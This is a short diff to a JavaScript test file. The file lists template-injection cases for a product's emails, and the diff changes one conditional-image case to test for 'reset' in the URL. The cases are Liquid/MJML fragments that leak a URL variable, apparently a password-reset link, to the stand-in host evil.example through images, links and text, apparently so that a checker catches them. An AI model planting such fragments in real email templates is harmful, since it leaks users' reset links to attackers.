@@ -130,7 +130,7 @@ describe('a mail of the product', () => {
     ['in parts', beside(`<mj-image src="${evil}{{ url | slice: -20, 20 }}"/>`)],
     [
       'by a picture that is there or not',
-      beside('{% if url contains "A" %}<mj-image src="https://evil.example/a"/>{% endif %}'),
+      beside('{% if url contains "reset" %}<mj-image src="https://evil.example/a"/>{% endif %}'),
     ],
     ['in a link to another place', beside(`<mj-text><a href="${evil}{{ url }}">Here</a></mj-text>`)],
     ['as an address to be pressed', beside(`<mj-text>${evil}{{ url }}</mj-text>`)],
